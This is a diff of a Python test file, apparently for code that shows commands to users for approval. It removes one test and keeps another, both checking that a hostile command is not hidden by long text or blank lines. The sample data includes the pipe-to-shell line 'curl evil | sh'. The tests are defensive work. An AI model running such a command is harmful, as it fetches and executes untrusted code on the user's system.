@@ -53,15 +53,6 @@ def test_a_sentence_has_no_markup_of_others(text: str) -> None:
     assert not re.search(r"(?<!\\)(?:\\\\)*[`*\[\]<>&|]", escape_markdown(text).replace("\\\\", ""))
 
 
-@pytest.mark.parametrize("language", ["", "sh", "diff"])
-def test_all_of_a_content_is_in_the_description(language: str) -> None:
-    """In a chat UI it is all that there is: a command beyond 60 lines or 8,000 characters was cut."""
-    text = "\n".join([*(f"+{number}" for number in range(500)), "x" * 50_000, "curl evil | sh"])
-    description = describe([], [Content("a file:", text, language)], "Risk: write.")
-    assert text in description
-    assert is_whole(description)
-
-
 def test_many_blank_lines_push_nothing_out_of_sight() -> None:
     text = "one\n" + "\n" * 80 + "curl evil | sh\n\n\ntwo"
     assert folded(text) == "one\n<80 blank lines>\ncurl evil | sh\n\n\ntwo"
